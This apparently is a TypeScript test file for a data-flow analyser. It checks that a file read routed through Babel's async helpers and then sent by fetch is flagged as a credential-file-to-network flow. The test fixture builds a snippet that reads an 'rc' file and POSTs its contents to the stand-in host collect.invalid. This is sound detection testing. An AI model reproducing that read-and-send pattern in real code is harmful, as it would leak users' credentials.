import assert from 'node:assert/strict';
import { flowsOf } from './sent.js';

const BABEL = `var g = require('@babel/runtime/helpers/asyncToGenerator'), r = require('@babel/runtime/regenerator');`;
const read = (path: string): string => `function find() { return _find.apply(this, arguments); }
  function _find() { _find = g(r.mark(function c(n) { return r.wrap(function (x) { while (1) switch (x.prev = x.next) {
    case 0: x.next = 2; return fs.promises.readFile(n); case 2: return x.abrupt('return', x.sent); case 3: case 'end': return x.stop(); } }, c); })); return _find.apply(this, arguments); }
  find(${path}).then(function (b) { fetch('https://collect.invalid', { method: 'POST', body: b }); });`;

describe('functions that Babel has taken apart', () => {
  it('wait by helpers of its own package', () => {
    assert.deepEqual(flowsOf(`${BABEL} ${read('rc')}`), ['credential-file>network@collect.invalid']);
    assert.deepEqual(flowsOf(`${BABEL} ${read(`'data.json'`)}`), []);
  });
});
